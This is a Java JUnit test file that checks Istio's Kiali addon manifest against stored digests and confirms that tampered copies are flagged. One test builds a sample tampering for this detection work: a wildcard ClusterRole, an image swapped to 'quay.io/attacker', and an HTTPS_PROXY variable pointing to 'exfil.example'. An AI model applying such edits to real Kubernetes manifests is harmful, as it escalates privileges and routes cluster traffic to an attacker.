package io.meshform.providers.istio.install;

import static io.meshform.providers.TestSpecs.yaml;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.meshform.engine.model.ResourceAddress;
import io.meshform.providers.istio.install.AddonSampleCheck.Match;
import io.meshform.providers.istio.install.IstioAddons.Addon;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import tools.jackson.databind.node.ObjectNode;

/**
 * Istio 1.30.3's own kiali.yaml (istio-fixtures/addons, copied unchanged from istio/istio samples/addons at tag
 * 1.30.3) is identical to the digests meshform carries; a tampered copy is flagged, object by object, with the fields.
 */
class AddonSampleCheckTest {
    static String istioKiali() throws IOException {
        try (InputStream in = AddonSampleCheckTest.class.getResourceAsStream("/istio-fixtures/addons/kiali.yaml")) {
            return new String(in.readAllBytes(), StandardCharsets.UTF_8);
        }
    }

    static Map<Addon, List<ObjectNode>> load(Path dir, String kiali) throws IOException {
        Files.writeString(dir.resolve("kiali.yaml"), kiali);
        return IstioAddons.load(ResourceAddress.parse("istio.install.mesh"),
                yaml("addons: {kiali: true, manifests: \"" + dir + "\"}\n"), dir);
    }

    private static AddonSampleCheck check(String version, Map<Addon, List<ObjectNode>> wanted) {
        return AddonSampleCheck.of(AddonSamples.builtIn(), version, wanted);
    }

    @Test
    void istiosOwnFileIsIdenticalObjectByObject(@TempDir Path dir) throws IOException {
        var wanted = load(dir, istioKiali());
        var check = check("1.30.3", wanted);
        assertEquals(List.of(), check.warnings());
        assertEquals(6, wanted.get(Addon.KIALI).size());
        for (ObjectNode o : wanted.get(Addon.KIALI)) {
            var v = check.verdict(o);
            assertEquals(Match.IDENTICAL, v.match(), AddonSamples.identity(o));
            assertTrue(v.identical().startsWith("identical to Istio 1.30.3 samples/addons/kiali.yaml (sha256 "), v.identical());
        }
    }

    @Test
    void reformattingTheFileKeepsItIdentical(@TempDir Path dir) throws IOException {
        // Comments, quoting, and a namespace left to meshform (istio-system, as kubectl -n would): not content.
        String reformatted = "# reviewed copy\n" + istioKiali().replaceFirst("  namespace: \"istio-system\"\n", "")
                .replace("version: \"v2.26.0\"", "version: v2.26.0").replace("namespace: \"istio-system\"", "namespace: istio-system");
        assertTrue(!reformatted.equals(istioKiali()) && reformatted.contains("version: v2.26.0"));
        var check = check("1.30.3", load(dir, reformatted));
        assertEquals(List.of(), check.warnings());
    }

    @Test
    void aBroaderClusterRoleAChangedImageAndAnExtraEnvVarAreWarnedAbout(@TempDir Path dir) throws IOException {
        String tampered = istioKiali()
                .replace("rules:\n- apiGroups: [\"\"]\n", "rules:\n- apiGroups: [\"*\"]\n  resources: [\"*\"]\n  verbs: [\"*\"]\n- apiGroups: [\"\"]\n")
                .replace("quay.io/kiali/kiali:v2.26", "quay.io/attacker/kiali:v2.26")
                .replace("        env:\n", "        env:\n        - name: HTTPS_PROXY\n          value: http://exfil.example:3128\n");
        var wanted = load(dir, tampered);
        var check = check("1.30.3", wanted);
        assertEquals(List.of(
                "kiali.yaml: ClusterRole kiali differs from Istio 1.30.3's sample: rules (12 fields)",
                "kiali.yaml: Deployment istio-system/kiali differs from Istio 1.30.3's sample:"
                        + " spec.template.spec.containers[0].env, spec.template.spec.containers[0].image"),
                check.warnings());
        long identical = wanted.get(Addon.KIALI).stream().filter(o -> check.verdict(o).match() == Match.IDENTICAL).count();
        assertEquals(4, identical, "the untouched objects still fold");
    }

    @Test
    void aChangedRuleIsNamedByItsIndex(@TempDir Path dir) throws IOException {
        String tampered = istioKiali().replaceFirst("  - watch\n", "  - watch\n  - delete\n");
        var check = check("1.30.3", load(dir, tampered));
        assertEquals(List.of("kiali.yaml: ClusterRole kiali differs from Istio 1.30.3's sample: rules[0]"), check.warnings());
    }

    @Test
    void anObjectTheSampleLacksIsWarnedAbout(@TempDir Path dir) throws IOException {
        String extra = istioKiali() + "\n---\napiVersion: v1\nkind: ConfigMap\nmetadata: {name: kiali-extra}\ndata: {a: b}\n";
        var check = check("1.30.3", load(dir, extra));
        assertEquals(List.of("kiali.yaml: ConfigMap istio-system/kiali-extra is not in Istio 1.30.3's samples/addons/kiali.yaml"),
                check.warnings());
    }

    @Test
    void anotherReleasesSampleIsNotThisOnes(@TempDir Path dir) throws IOException {
        // 1.30.0 shipped another Kiali: its objects differ, so 1.30.3's file installed as 1.30.0 is flagged.
        var check = check("1.30.0", load(dir, istioKiali()));
        assertTrue(check.warnings().stream().anyMatch(w -> w.startsWith("kiali.yaml: Deployment istio-system/kiali differs from"
                + " Istio 1.30.0's sample: ") && w.contains("spec.template.spec.containers[0].image")), check.warnings().toString());
    }

    @Test
    void aReleaseWithoutDigestsIsSaidOnceAndNothingFolds(@TempDir Path dir) throws IOException {
        var wanted = load(dir, istioKiali());
        var check = check("1.31.0", wanted);
        assertEquals(1, check.warnings().size(), check.warnings().toString());
        assertTrue(check.warnings().get(0).startsWith("addons: meshform has no digests of Istio 1.31.0's samples/addons (it has"
                + " them for 1.26.8, 1.27.9, 1.28.10, 1.29.6, 1.30.0, 1.30.1, 1.30.2, 1.30.3), so the addon files could not be"
                + " compared"), check.warnings().get(0));
        wanted.get(Addon.KIALI).forEach(o -> assertEquals(Match.UNCOMPARED, check.verdict(o).match()));
    }
}
